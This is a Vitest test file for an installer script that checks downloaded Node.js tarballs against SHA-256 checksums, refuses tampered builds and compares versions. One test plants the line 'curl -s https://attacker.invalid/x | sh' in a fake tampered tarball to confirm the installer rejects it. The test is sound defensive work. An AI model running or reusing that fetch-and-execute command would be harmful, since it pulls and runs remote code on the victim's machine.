// The installer's Node.js path (packaging/node-dist.sh): the SHA-256 check against a release's SHASUMS256.txt and the
// download that refuses to unpack a tarball failing it. nodejs.org is out of reach here, so a local "dist" directory
// laid out like https://nodejs.org/dist/v<version>/ is served through a file:// URL (PRESSLUFT_NODE_DIST_URL).
import crypto from 'node:crypto'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { describe, it, expect, beforeAll, afterAll } from 'vitest'
import { execa } from 'execa'

const SCRIPT = path.resolve('packaging/node-dist.sh')
const VERSION = '99.1.0'
const NAME = `node-v${VERSION}-linux-x64.tar.gz`

let root: string
let dist: string

/** A stand-in Node.js build: bin/node answers the version probe the installer makes. */
async function makeNodeTarball(dir: string, version: string, marker = ''): Promise<string> {
  const top = `node-v${version}-linux-x64`
  fs.mkdirSync(path.join(dir, 'build', top, 'bin'), { recursive: true })
  fs.writeFileSync(path.join(dir, 'build', top, 'bin', 'node'), `#!/bin/sh\nprintf '%s' '${version}'\n${marker}`, { mode: 0o755 })
  const tarball = path.join(dir, `${top}.tar.gz`)
  await execa('tar', ['-C', path.join(dir, 'build'), '-czf', tarball, top])
  return tarball
}

const sha256 = (file: string) => crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex')
const run = (args: string[], env: Record<string, string> = {}) => execa('bash', [SCRIPT, ...args], { reject: false, env })

beforeAll(async () => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'pressluft-node-dist-'))
  dist = path.join(root, 'dist')
  const release = path.join(dist, `v${VERSION}`)
  fs.mkdirSync(release, { recursive: true })
  const tarball = await makeNodeTarball(root, VERSION)
  fs.copyFileSync(tarball, path.join(release, NAME))
  // As published: one line per file of the release, "<sha256>  <name>".
  fs.writeFileSync(path.join(release, 'SHASUMS256.txt'),
    `${'0'.repeat(64)}  node-v${VERSION}-linux-arm64.tar.gz\n${sha256(tarball)}  ${NAME}\n${'1'.repeat(64)}  node-v${VERSION}.tar.gz\n`)
})
afterAll(() => { fs.rmSync(root, { recursive: true, force: true }) })

describe('installer: Node.js checksum check (packaging/node-dist.sh)', () => {
  it('accepts a tarball whose SHA-256 is the one SHASUMS256.txt lists for its name', async () => {
    const result = await run(['verify', path.join(dist, `v${VERSION}`, NAME), path.join(dist, `v${VERSION}`, 'SHASUMS256.txt')])
    expect(result.exitCode).toBe(0)
    expect(result.stderr).toBe('')
  })

  it('rejects a tarball changed by one byte, and one the file does not list', async () => {
    const tampered = path.join(root, 'tampered', NAME)
    fs.mkdirSync(path.dirname(tampered), { recursive: true })
    const bytes = fs.readFileSync(path.join(dist, `v${VERSION}`, NAME))
    bytes[bytes.length - 1] ^= 1
    fs.writeFileSync(tampered, bytes)
    const mismatch = await run(['verify', tampered, path.join(dist, `v${VERSION}`, 'SHASUMS256.txt')])
    expect(mismatch.exitCode).toBe(1)
    expect(mismatch.stderr).toContain(`SHA-256 mismatch for ${NAME}: expected ${sha256(path.join(dist, `v${VERSION}`, NAME))}, got ${sha256(tampered)}`)

    const unlisted = path.join(root, 'tampered', 'node-v1.0.0-linux-x64.tar.gz')
    fs.copyFileSync(path.join(dist, `v${VERSION}`, NAME), unlisted)
    const missing = await run(['verify', unlisted, path.join(dist, `v${VERSION}`, 'SHASUMS256.txt')])
    expect(missing.exitCode).toBe(1)
    expect(missing.stderr).toContain('lists no checksum for node-v1.0.0-linux-x64.tar.gz')
  })

  it('fetch downloads, verifies and unpacks a matching build; a tampered download aborts and installs nothing', async () => {
    const env = { PRESSLUFT_NODE_DIST_URL: `file://${dist}` }
    const good = path.join(root, 'opt', `v${VERSION}`)
    const ok = await run(['fetch', VERSION, 'x64', good], env)
    expect(ok.exitCode, ok.stderr).toBe(0)
    expect((await execa(path.join(good, 'bin', 'node'), ['-e', 'x'])).stdout).toBe(VERSION)
    expect((await run(['satisfies', path.join(good, 'bin', 'node'), '20.19'])).exitCode).toBe(0)

    // A mirror serving a different file under the same name.
    const evil = path.join(root, 'evil-dist')
    fs.cpSync(dist, evil, { recursive: true })
    const other = await makeNodeTarball(path.join(root, 'other'), VERSION, 'curl -s https://attacker.invalid/x | sh\n')
    fs.copyFileSync(other, path.join(evil, `v${VERSION}`, NAME))
    const bad = path.join(root, 'opt', 'evil')
    const refused = await run(['fetch', VERSION, 'x64', bad], { PRESSLUFT_NODE_DIST_URL: `file://${evil}` })
    expect(refused.exitCode).toBe(1)
    expect(refused.stderr).toContain(`SHA-256 mismatch for ${NAME}`)
    expect(refused.stderr).toContain(`refusing to install ${NAME}`)
    expect(fs.existsSync(bad)).toBe(false)
  })

  it('satisfies compares versions numerically against the engines minimum', async () => {
    const fake = (version: string) => {
      const file = path.join(root, `node-${version}`)
      fs.writeFileSync(file, `#!/bin/sh\nprintf '%s' '${version}'\n`, { mode: 0o755 })
      return file
    }
    const cases: [string, string, number][] = [
      ['18.19.1', '20.19', 1], ['20.18.9', '20.19', 1], ['20.19.0', '20.19', 0], ['20.20.2', '20.19', 0], ['22.1.0', '20.19', 0], ['100.0.0', '20.19', 0],
    ]
    for (const [version, minimum, exit] of cases) expect((await run(['satisfies', fake(version), minimum])).exitCode, `${version} >= ${minimum}`).toBe(exit)
    expect((await run(['satisfies', process.execPath, '20.19'])).exitCode).toBe(0)
    expect((await run(['satisfies', path.join(root, 'no-such-node'), '20.19'])).exitCode).toBe(1)
  })
})
